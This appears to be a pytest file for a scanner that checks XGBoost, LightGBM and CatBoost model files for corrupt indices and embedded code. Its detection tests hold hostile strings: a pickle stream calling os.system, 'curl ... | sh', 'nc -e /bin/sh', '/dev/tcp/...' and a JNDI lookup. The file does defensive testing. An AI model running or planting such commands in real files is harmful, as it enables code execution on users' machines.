"""XGBoost, LightGBM and CatBoost: their own files are allowed, an index that leaves the model is an error, damage is a warning."""

from __future__ import annotations

import json
import pickle
import struct
import warnings
from pathlib import Path
from typing import Any

import pytest

import safeload
from safeload.errors import MalformedError, UnsupportedError
from safeload.findings import Level, Outcome, Report
from safeload.formats.code_text import reads_like_code
from safeload.formats.ubjson import parse_ubjson
from tests.forge_boosting import (
    catboost,
    catboost_json,
    lightgbm,
    lightgbm_tree,
    ubjson,
    xgboost,
    xgboost_binary,
    xgboost_json,
    xgboost_tree,
)

COMMAND = "__import__('os').system('true')"
STREAM = b"cos\nsystem\n(S'true'\ntR."


def scanned(data: bytes) -> Report:
    return safeload.scan(data, policy={}, lock=False)


def rules(data: bytes) -> dict[str, Level]:
    return {found.rule: found.level for found in scanned(data).findings if found.level is not Level.NOTE}


SEVERAL = {"num_nodes": "3", "size_leaf_vector": "2"}
BENIGN = {
    "xgboost-json": [
        xgboost_json(),
        xgboost_json(xgboost_tree(), xgboost_tree()),
        xgboost_json(booster="dart"),
        xgboost_json(xgboost_tree(tree_param=SEVERAL, right_children=[2, 0, 1], leaf_weights=[0.5] * 4)),
        xgboost_json(xgboost_tree(tree_param=SEVERAL)),
        xgboost_json(booster="gblinear"),
        b"\xef\xbb\xbf \n" + json.dumps(xgboost(), indent=1).encode(),
        json.dumps({"version": [1, 0, 0], **xgboost(xgboost_tree(default_left=[True, False, False], split_type=None))}).encode(),
    ],
    "xgboost-ubjson": [ubjson(xgboost()), ubjson(xgboost(booster="dart")), ubjson(xgboost(attributes={"best_iteration": "3"}))],
    "xgboost-binary": [
        xgboost_binary(),
        xgboost_binary(magic=b""),
        xgboost_binary(booster="dart"),
        xgboost_binary(booster="gblinear"),
        xgboost_binary(attributes={"best_score": "0.5"}),
    ],
    "lightgbm": [
        lightgbm(),
        lightgbm(lightgbm_tree(), lightgbm_tree(1)),
        lightgbm(lightgbm_tree(num_leaves="1", leaf_value="0.5", left_child="", right_child="", split_feature="")),
        lightgbm(
            lightgbm_tree(num_cat="1", cat_boundaries="0 1", cat_threshold="3", decision_type="1 2", threshold="0 1.5"),
        ),
        lightgbm(lightgbm_tree(is_linear="1", leaf_const="0 0 0", num_features="0 1 1", leaf_features=" 1  2 ", leaf_coeff=" 0.5  0.1 ")),
    ],
    "catboost": [
        catboost(),
        catboost(parts=["static_provider_v1"], behind=bytes(12)),
        catboost(info={"params": '{"loss_function": "RMSE"}', "model_guid": "1-2-3-4", "note": "the system (v2) of os"}),
    ],
    "catboost-json": [catboost_json(), catboost_json(ctr_data={"x": {"hash_map": ["1", 2]}}, oblivious_trees=[])],
}
FILES = [pytest.param(name, data, id=f"{name}-{index}") for name, files in BENIGN.items() for index, data in enumerate(files)]


@pytest.mark.parametrize(("name", "data"), FILES)
def test_what_the_libraries_write_is_allowed(name: str, data: bytes) -> None:
    report = scanned(data)
    assert report.format == name
    assert report.decision.outcome is Outcome.ALLOWED, report.decision.reasons
    assert report.findings == ()


OUT_OF_BOUNDS = {
    "a child that is not there": xgboost_tree(left_children=[7, -1, -1]),
    "a child before the first": xgboost_tree(left_children=[-5, -1, -1]),
    "a node that is its own child": xgboost_tree(left_children=[0, -1, -1]),
    "two parents": xgboost_tree(left_children=[2, -1, -1]),
    "a circle": xgboost_tree(left_children=[1, 1, -1], right_children=[2, 2, -1]),
    "one child": xgboost_tree(right_children=[-1, -1, -1]),
    "a feature that is not there": xgboost_tree(split_indices=[4, 0, 0]),
    "a negative feature": xgboost_tree(split_indices=[-1, 0, 0]),
    "fewer nodes than are stated": xgboost_tree(tree_param={"num_nodes": "4000000"}),
    "fewer thresholds": xgboost_tree(split_conditions=[0.5]),
    "no children": xgboost_tree(left_children=None),
    "a child that is a text": xgboost_tree(left_children=["1", -1, -1]),
    "a child that is half a number": xgboost_tree(left_children=[1.5, -1, -1]),
    "categories that are not there": xgboost_tree(
        categories=[1], categories_nodes=[0], categories_segments=[0], categories_sizes=[1 << 40]
    ),
    "categories of unlike length": xgboost_tree(categories=[1], categories_nodes=[0], categories_segments=[], categories_sizes=[1]),
    "a leaf that is not there": xgboost_tree(tree_param=SEVERAL, right_children=[2, 0, 9], leaf_weights=[0.5] * 4),
    "leaves without values": xgboost_tree(tree_param=SEVERAL, right_children=[2, 0, 1]),
    "leaves that are a number": xgboost_tree(tree_param=SEVERAL, right_children=[2, 0, 1], leaf_weights=7),
    "a category that is a text": xgboost_tree(categories=[1], categories_nodes=[0], categories_segments=["0"], categories_sizes=[1]),
}


@pytest.mark.parametrize("write", [xgboost_json, lambda tree: ubjson(xgboost(tree))], ids=["json", "ubjson"])
@pytest.mark.parametrize("tree", OUT_OF_BOUNDS.values(), ids=OUT_OF_BOUNDS)
def test_an_index_that_leaves_an_xgboost_tree_is_an_error(tree: dict[str, Any], write: Any) -> None:
    """The library follows them without looking: a read of memory that is not the model's, or a walk without end."""
    assert rules(write(tree))["SL851"] is Level.ERROR


MISCOUNTED = {
    "more trees than there are": xgboost_json(gbtree_model_param={"num_trees": "2"}),
    "groups for trees that are not there": xgboost_json(tree_info=[0, 0]),
    "iterations that begin nowhere": xgboost_json(iteration_indptr=[0, 5]),
    "iterations that go back": xgboost_json(xgboost_tree(), xgboost_tree(), iteration_indptr=[0, 2, 1]),
    "weights of other features": xgboost_json(booster="gblinear", weights=[0.5]),
    "a key twice": xgboost_json().replace(b'"version"', b'"learner":{},"version"'),
    "a key twice in UBJSON": ubjson(xgboost())[:-1] + ubjson({"learner": 1})[1:],
    "a child of a binary tree": xgboost_binary([(1, 9, 1), (-1, -1, 0), (-1, -1, 0)]),
    "a circle in a binary tree": xgboost_binary([(1, 2, 1), (0, -1, 0), (-1, -1, 0)]),
    "a feature of a binary tree": xgboost_binary([(1, 2, 99), (-1, -1, 0), (-1, -1, 0)]),
    "no nodes in a binary tree": xgboost_binary([], count=0),
    "millions of binary trees": xgboost_binary(trees=1 << 30),
    "a negative number of trees": xgboost_binary(trees=-1),
    "a LightGBM child": lightgbm(lightgbm_tree(left_child="9 -1")),
    "a LightGBM leaf": lightgbm(lightgbm_tree(right_child="-2 -9")),
    "a LightGBM circle": lightgbm(lightgbm_tree(left_child="0 -1")),
    "a LightGBM feature": lightgbm(lightgbm_tree(split_feature="1 4")),
    "LightGBM leaves": lightgbm(lightgbm_tree(num_leaves="4000")),
    "no LightGBM leaves": lightgbm(lightgbm_tree(num_leaves="0")),
    "LightGBM categories": lightgbm(lightgbm_tree(num_cat="1", cat_boundaries="0 5", cat_threshold="3")),
    "a LightGBM categorical split": lightgbm(
        lightgbm_tree(num_cat="1", cat_boundaries="0 1", cat_threshold="3", decision_type="1 2", threshold="9 1")
    ),
    "a linear LightGBM leaf": lightgbm(lightgbm_tree(is_linear="1", num_features="1 0 0", leaf_features="9", leaf_coeff="1")),
    "linear LightGBM leaves": lightgbm(lightgbm_tree(is_linear="1", num_features="9 0 0", leaf_features="1", leaf_coeff="1")),
    "LightGBM sizes that leave the file": lightgbm(sizes="99999999"),
    "LightGBM sizes for more trees": lightgbm(sizes="200 200"),
    "LightGBM names": lightgbm(feature_names="a b"),
    "a LightGBM header line twice": lightgbm().replace(b"num_class=1", b"num_class=1\nnum_class=2"),
    "a LightGBM tree line twice": lightgbm(lightgbm_tree(shrinkage="1\nleaf_value=9")),
    "CatBoost splits": catboost(sizes=[5]),
    "a CatBoost tree without a start": catboost(starts=[]),
    "a negative CatBoost start": catboost(starts=[-1]),
    "a CatBoost core that leaves the file": catboost(length=1 << 30),
    "a CatBoost root that leaves the core": catboost(root=1 << 30),
    "CatBoost leaves": catboost_json(oblivious_trees=[{"leaf_values": [1, 2, 3], "splits": [{}]}]),
    "CatBoost weights": catboost_json(oblivious_trees=[{"leaf_values": [1, 2], "leaf_weights": [1], "splits": [{}]}]),
    "a CatBoost tree that is a number": catboost_json(oblivious_trees=[7]),
}  # fmt: skip


@pytest.mark.parametrize("data", MISCOUNTED.values(), ids=MISCOUNTED)
def test_a_count_or_an_index_that_leaves_the_model_is_an_error(data: bytes) -> None:
    assert rules(data)["SL851"] is Level.ERROR


MALFORMED = {
    "no booster": json.dumps({"learner": {"attributes": {}}}).encode(),
    "an unknown booster": xgboost_json(booster="gbshell"),
    "a learner that is a list": b'{"learner": [], "feature_names": 1, "attributes": 2}',
    "no model": json.dumps({"learner": {"attributes": {}, "gradient_booster": {"name": "gbtree"}}}).encode(),
    "trees that are no list": xgboost_json(trees=7),
    "a tree that is a number": xgboost_json(trees=[7]),
    "no weights": xgboost_json(booster="gblinear", weights=None),
    "a linear model without parameters": xgboost_json(booster="gblinear").replace(b"learner_model_param", b"learner_model_parax"),
    "JSON that breaks": xgboost_json()[:-10],
    "UBJSON that breaks": ubjson(xgboost())[:-10],
    "a binary model that breaks": xgboost_binary()[:-10],
    "a binary model without anything": b"binf" + bytes(20),
    "a LightGBM child that is a text": lightgbm(lightgbm_tree(left_child="x -1")),
    "a LightGBM tree without leaves": lightgbm(lightgbm_tree(num_leaves="")),
    "LightGBM text that is cut off": lightgbm()[:250],
    "no LightGBM features": lightgbm(max_feature_idx=""),
    "control characters": lightgbm(objective="regression\0"),
    "another CatBoost format": catboost(version="FlabuffersModel_v9"),
    "CatBoost JSON that breaks": catboost_json()[:-10],
    "CatBoost trees that are no list": catboost_json(oblivious_trees=7),
}  # fmt: skip


@pytest.mark.parametrize("data", MALFORMED.values(), ids=MALFORMED)
def test_a_model_that_is_not_as_its_program_writes_it_is_a_warning(data: bytes) -> None:
    """Damage is no attack, and nobody shall learn to ignore errors; allowed it is not."""
    found = rules(data)
    assert set(found.values()) == {Level.WARNING}, found
    assert scanned(data).decision.outcome is not Outcome.ALLOWED


CODED = {
    "an XGBoost attribute": xgboost_json(attributes={"note": COMMAND}),
    "an attribute's name": ubjson(xgboost(attributes={COMMAND: "x"})),
    "a binary model's attribute": xgboost_binary(attributes={"note": COMMAND}),
    "a LightGBM parameter": lightgbm(parameters=f"[data: {COMMAND}]"),
    "a LightGBM objective": lightgbm(objective=f"regression {COMMAND}"),
    "CatBoost's parameters": catboost(info={"params": json.dumps({"eval_metric": COMMAND})}),
    "CatBoost JSON": catboost_json(model_info={"params": COMMAND}),
}


@pytest.mark.parametrize("data", CODED.values(), ids=CODED)
def test_text_that_reads_like_code_is_a_warning(data: bytes) -> None:
    """None of the libraries runs it; no writer puts it there, and some program around it may run it."""
    assert rules(data) == {"SL852": Level.WARNING}


@pytest.mark.parametrize(
    "text",
    [
        "os.system('x')", "import subprocess", "subprocess.Popen(['x'])", "eval (x)", "__import__('os')", "().__class__.__mro__",
        "bash -c 'x'", "/bin/sh -c x", "curl -s http://a/b | sh", "powershell -enc x", "cmd.exe /c dir", "#!/bin/sh\nx", "pickle.loads(x)",
        "<script>x</script>", "${jndi:ldap://a/b}", "Runtime.getRuntime().exec(x)", "nc -e /bin/sh", "/dev/tcp/1.2.3.4/5",
    ],
)  # fmt: skip
def test_code_is_recognised(text: str) -> None:
    assert reads_like_code(f"a name; {text}" if not text.startswith("#!") else text) is not None


@pytest.mark.parametrize(
    "text",
    [
        "operating system (OS)", "evaluation", "eval_metric", "executive", "the shell of an egg", "import duty", "imports", "systolic",
        "max(pulse)", "https://example.org/a?b=c", "C:\\models\\a.csv", "/home/me/data.csv", "bash", "a script", "reg:squarederror",
        "pickled herring", "os", "osmosis.system", "exec summary", "evaluate(x)", "recompile(x)",
    ],
)  # fmt: skip
def test_ordinary_names_are_no_code(text: str) -> None:
    """Features are named by people."""
    assert reads_like_code(text) is None


def test_what_follows_a_model_is_named() -> None:
    """A loader stops where the model ends."""
    for data in (ubjson(xgboost()), xgboost_binary(), catboost()):
        assert rules(data + b"more")["SL126"] is Level.WARNING


@pytest.mark.parametrize("data", [files[0] for files in BENIGN.values()], ids=BENIGN)
def test_an_archive_at_the_end_is_a_second_face(data: bytes) -> None:
    from tests.forge_zip import Part, forge

    assert rules(data + forge(Part("x", STREAM)))["SL213"]


@pytest.mark.parametrize("data", [files[0] for files in BENIGN.values()], ids=BENIGN)
def test_a_load_says_what_can_be_done(data: bytes) -> None:
    with pytest.raises(UnsupportedError, match="scanned, locked and verified"):
        safeload.load(memoryview(data), policy={"unpinned": "allow"}, lock=False)


# ---- UBJSON


BROKEN_UBJSON = {
    "a length that leaves the file": b"S" + b"L" + struct.pack(">q", 1 << 40),
    "a negative length": b"Si\xff",
    "a typed array that leaves the file": b"[$D#L" + struct.pack(">q", 1 << 60),
    "values of no bytes": b"[$Z#L" + struct.pack(">q", 1 << 40),
    "objects of no bytes": b"{$T#L" + struct.pack(">q", 1 << 40),
    "a type without a count": b"[$D]",
    "an unknown type": b"[?",
    "nested without end": b"[" * 100_000,
    "no value": b"",
    "a length that is a text": b"SSi\1a",
    "text that is not UTF-8": b"Si\1\xff",
}


@pytest.mark.parametrize("data", BROKEN_UBJSON.values(), ids=BROKEN_UBJSON)
def test_ubjson_that_breaks_raises_our_error(data: bytes) -> None:
    with pytest.raises(MalformedError) as caught:
        parse_ubjson(memoryview(data))
    assert caught.value.where.startswith("@")


def test_every_form_of_ubjson_is_read() -> None:
    data = b"{i\1aZi\1bTi\1cFi\1dU\xffi\1eI\xff\xffi\1fl\0\0\0\1i\1gd\x3f\0\0\0i\1hD\x3f\xe0" + bytes(6)
    data += b"i\1iCxi\1j[i\1i\2]i\1k[#i\2i\1Si\1zi\1l[$U#i\2\1\2i\1m{$i#i\1i\1x\5i\1nNHi\0012}"
    value, repeated, end = parse_ubjson(memoryview(data))
    typed = value.pop("l")
    assert value == {
        "a": None, "b": True, "c": False, "d": 255, "e": -1, "f": 1, "g": 0.5, "h": 0.5, "i": "x", "j": [1, 2], "k": [1, "z"],
        "m": {"x": 5}, "n": "2",
    }  # fmt: skip
    assert (list(typed), repeated, end) == ([1, 2], (), len(data))


def test_many_empty_arrays_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    """Each takes thirty times its bytes in memory."""
    monkeypatch.setattr("safeload.formats.ubjson._CONTAINERS", 1_000)
    monkeypatch.setattr("safeload.formats.json_tree._CONTAINERS", 1_000)
    with pytest.raises(MalformedError, match="arrays and objects"):
        parse_ubjson(memoryview(b"[" + b"[]" * 1_000 + b"]"))
    assert rules(b'{"learner":{"attributes":[' + b"[]," * 1_000 + b"1]}}")["SL855"] is Level.WARNING


# ---- pickles that hold models


def test_a_models_bytes_inside_a_pickle_are_data() -> None:
    """An estimator with a booster inside is not modelled, and no more than that."""
    from tests import forge

    for data in [files[0] for files in BENIGN.values()]:
        stream = forge.stream(
            forge.PROTO(4), forge.GLOBAL("xgboost.core", "Booster"), forge.EMPTY_TUPLE, forge.NEWOBJ,
            forge.EMPTY_DICT, forge.TEXT("handle"), forge.BYTES(data), forge.OP["SETITEM"], forge.BUILD, forge.STOP,
        )  # fmt: skip
        report = scanned(stream)
        assert {found.level for found in report.findings} == {Level.WARNING}
        assert report.unmodelled == ("xgboost.core.Booster",)


@pytest.fixture(scope="module")
def trained() -> tuple[Any, Any]:
    np = pytest.importorskip("numpy")
    rng = np.random.default_rng(0)
    return rng.normal(size=(80, 4)), rng.integers(0, 3, 80)


@pytest.mark.filterwarnings("ignore")
def test_what_xgboost_itself_writes_is_allowed(trained: tuple[Any, Any], tmp_path: Path) -> None:
    """Its own writer is the witness, and it reads what was forged here."""
    library = pytest.importorskip("xgboost")
    x, y = trained
    data = library.DMatrix(x, label=y, feature_names=list("abcd"))
    for booster in ("gbtree", "dart", "gblinear"):
        params = {"booster": booster, "max_depth": 3, "nthread": 1, "objective": "multi:softprob", "num_class": 3}
        made = library.train(params, data, 3)
        made.set_attr(note="best of three")
        for ending in ("json", "ubj"):
            made.save_model(tmp_path / f"m.{ending}")
            report = safeload.scan(tmp_path / f"m.{ending}", policy={}, lock=False)
            assert report.decision.outcome is Outcome.ALLOWED, (booster, ending, report.decision.reasons)
            assert report.metadata["objective"] == "multi:softprob"
    several = library.train({"multi_strategy": "multi_output_tree", "tree_method": "hist", "nthread": 1}, library.DMatrix(x, label=x), 2)
    several.save_model(tmp_path / "m.ubj")
    assert safeload.scan(tmp_path / "m.ubj", policy={}, lock=False).decision.outcome is Outcome.ALLOWED
    stored = pickle.dumps(made)
    assert {found.level for found in scanned(stored).findings} == {Level.WARNING}
    loaded = library.Booster()
    loaded.load_model(bytearray(xgboost_json()))
    assert loaded.num_boosted_rounds() == 1


@pytest.mark.filterwarnings("ignore")
def test_what_lightgbm_itself_writes_is_allowed(trained: tuple[Any, Any], tmp_path: Path) -> None:
    """Likewise."""
    library = pytest.importorskip("lightgbm")
    x, y = trained
    for params in ({}, {"linear_tree": True}, {"categorical_feature": [3]}, {"objective": "multiclass", "num_class": 3}):
        columns = x.copy()
        columns[:, 3] = y
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            base = {"verbose": -1, "min_data_in_leaf": 3, "num_threads": 1, "min_data_per_group": 3, "cat_smooth": 1}
            made = library.train({**base, **params}, library.Dataset(columns, y, free_raw_data=False), 3)
        made.save_model(tmp_path / "m.txt")
        report = safeload.scan(tmp_path / "m.txt", policy={}, lock=False)
        assert report.decision.outcome is Outcome.ALLOWED, (params, report.decision.reasons)
    assert {found.level for found in scanned(pickle.dumps(made)).findings} == {Level.WARNING}
    assert library.Booster(model_str=lightgbm().decode()).num_trees() == 1
